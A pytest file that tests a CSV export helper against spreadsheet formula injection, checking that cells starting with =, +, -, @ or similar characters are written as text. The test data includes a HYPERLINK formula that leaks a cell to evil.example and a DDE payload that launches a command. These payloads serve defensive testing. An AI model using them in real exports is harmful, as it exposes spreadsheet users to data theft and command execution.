"""Exports for spreadsheets."""

import csv
from datetime import date
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pupmatch.lib.csv import csv_response, neutral, table

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    "typed",
    [
        FORMULA,
        "=1+1",
        "+1",
        "-1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\tA",
        "\rA",
        " =1",
        "  @x",
        "\u00a0=1",
        "＝1",
        "＋1",
        "－1",
        "＠A",
    ],
)
def test_what_could_be_a_formula_is_text(typed):
    assert neutral(typed) == f"'{typed}"
    [[_], [cell]] = _read(table(["Words"], [[typed]]))
    assert cell == f"'{typed}"


@pytest.mark.parametrize("typed", ["", "Rex", "a=b", "1-2", "me@home", "'=1", "🐶", "x\t=1"])
def test_other_words_stay_as_they_are(typed):
    assert neutral(typed) == typed


@pytest.mark.parametrize("value", [-5, 0, -0.25, None, True, date(2026, 11, 21)])
def test_figures_and_times_stay_what_they_are(value):
    assert neutral(value) is value


def test_no_cell_breaks_out_of_its_column():
    nasty = 'a","=1\r\n"=2'
    assert _read(table(["One", "Two"], [[nasty, "b"]])) == [["One", "Two"], [nasty, "b"]]


def test_names_of_columns_are_text_too():
    assert _read(table(["=1"], [])) == [["'=1"]]


@given(st.lists(st.lists(st.text(st.characters(codec="utf-8")), min_size=2, max_size=2)))
def test_no_cell_begins_a_formula(rows):
    written = _read(table(["=A", "B"], rows))
    assert len(written) == len(rows) + 1
    for cell in [cell for row in written for cell in row]:
        assert not cell.lstrip().startswith(("=", "+", "-", "@"))
        assert not cell.startswith(("\t", "\r"))


def test_an_answer_is_a_file_that_nobody_keeps():
    answer = csv_response("figures.csv", ["Reason", "Reports"], [["spam", 3]])
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="figures.csv"'
    assert answer["Cache-Control"] == "private, no-store"
    assert answer.content == b'"Reason","Reports"\r\n"spam","3"\r\n'


def _read(text):
    return list(csv.reader(StringIO(text, newline="")))
